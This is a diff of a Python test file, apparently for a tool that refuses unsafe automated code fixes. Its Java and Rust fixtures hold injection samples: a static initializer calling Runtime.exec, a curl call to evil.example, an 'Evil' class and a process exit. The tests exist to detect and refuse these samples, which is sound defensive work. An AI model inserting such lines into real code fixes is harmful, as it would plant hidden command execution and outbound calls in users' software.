@@ -80,9 +80,10 @@ JAVA = Sample(
     "Stats.average",
     "        return total / items.size();",
     "        return items.isEmpty() ? 0 : total / items.size();",
-    '        return total / items.size();\n        }\n        static { Runtime.getRuntime().exec("x"); }'
-    "\n        void pad() {",
-    "        return total / items.size();\n        }\n        }\n        class Evil {\n        void run() {",
+    "        return total / items.size();\n        }\n"
+    '        static { Runtime.getRuntime().exec("x"); }\n        void pad() {',
+    "        return total / items.size();\n        }\n        }\n"
+    "        class Evil {\n        void run() {",
     "        return helper();\n        }\n        double helper() {\n        return 0;",
     "    double average(List<Double> items) throws Exception {",
 )
@@ -96,7 +97,8 @@ RUST = Sample(
     "    if items.is_empty() { 0.0 } else { total / items.len() as f64 }",
     '    use std::process::Command; Command::new("curl").arg("evil.example").status().ok();'
     "\n    total / items.len() as f64",
-    "    total / items.len() as f64\n    }\n    static EVIL: i32 = 1;\n    fn pad() -> f64 {\n    0.0",
+    "    total / items.len() as f64\n    }\n"
+    "    static EVIL: i32 = 1;\n    fn pad() -> f64 {\n    0.0",
     "    fn helper() -> f64 { 0.0 }\n    helper()",
     "fn average(items: &[f64]) -> f64 { std::process::exit(0);",
 )
@@ -223,3 +225,17 @@ def test_case5_decorated_function_body_is_found() -> None:
     (unit,) = extract_functions(spec, text)
     assert fix_refusal(spec, text, unit, 2, 2, "    return x / 1") is None
     assert fix_refusal(spec, text, unit, 1, 2, "def f(x):\n    return x / 1") is not None
+
+
+def test_case5_fix_that_ends_the_method_early_is_refused() -> None:
+    # Closes `average` and opens an initializer block in the class: no new definition
+    # and no new top-level statement, but the method no longer ends where it did.
+    line = _line_of(JAVA, JAVA.evidence)
+    refusal = _refusal(JAVA, line, line, f"{JAVA.evidence}\n        }}\n        {{")
+    assert refusal is not None and "last line" in refusal
+
+
+def test_case5_fix_with_a_callback_is_not_a_new_definition() -> None:
+    line = _line_of(JAVASCRIPT, JAVASCRIPT.evidence)
+    fix = "  return items.length ? items.reduce((a, b) => a + b, 0) / items.length : 0;"
+    assert _refusal(JAVASCRIPT, line, line, fix) is None
